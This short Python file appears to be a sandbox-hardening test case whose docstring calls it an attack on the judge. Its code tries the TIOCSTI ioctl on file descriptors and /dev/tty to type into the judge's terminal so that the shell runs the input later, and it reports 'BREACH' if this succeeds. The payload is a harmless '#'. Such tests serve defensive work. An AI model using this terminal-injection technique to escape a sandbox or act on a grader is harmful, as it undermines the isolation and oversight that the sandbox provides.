"""Types into the judge's terminal (TIOCSTI), so that the shell runs it after the judge has ended.

kind: attack the judge
says: No such device or address
strong: holds
partial: holds
none: holds
"""

import contextlib
import fcntl
import termios


def attack():
    for fd in range(16):
        with contextlib.suppress(OSError):
            fcntl.ioctl(fd, termios.TIOCSTI, b"#")
            print("BREACH: typed into descriptor", fd)
    with open("/dev/tty", "r+b", 0) as terminal:
        fcntl.ioctl(terminal, termios.TIOCSTI, b"#")
        print("BREACH: typed into the terminal")
